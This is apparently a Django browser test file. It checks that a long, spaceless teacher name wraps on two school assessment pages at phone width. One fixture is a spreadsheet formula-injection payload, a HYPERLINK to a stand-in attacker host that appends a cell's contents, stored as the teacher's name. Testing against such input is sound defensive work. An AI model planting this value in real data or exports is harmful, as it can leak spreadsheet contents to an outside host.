"""Outside test 2, L6: a long name without spaces (a formula someone typed as
a teacher's name) at 375 px. The school's 未完成情况 and 研修考核 pages wrap
it inside its cell or label instead of scrolling sideways."""

import pytest
from django.urls import reverse

from accounts.models import User

from .test_attack1_phone import CUT, PHONE, UNREACHABLE, _open

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]

FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"点我")'
LONG = "A" * 50  # the longest name the roster takes (User.real_name)


@pytest.mark.parametrize("name", ["lacking", "review"])
def test_a_long_name_without_spaces_fits_a_phone(cast, live_server, browser, name):
    User.objects.filter(pk=cast.teacher.pk).update(real_name=FORMULA)
    User.objects.filter(pk=cast.teacher2.pk).update(real_name=LONG)
    page, problems = _open(
        browser,
        live_server,
        cast.school_admin,
        reverse(f"assessment:{name}"),
        f"attack2-{name}-375.png",
    )
    assert FORMULA in page.locator("main").inner_text()
    assert problems == []
    assert page.evaluate(UNREACHABLE) == []
    assert page.evaluate(CUT, "main td, main label") == []
    width = page.evaluate("() => document.documentElement.scrollWidth")
    assert width <= PHONE[0]
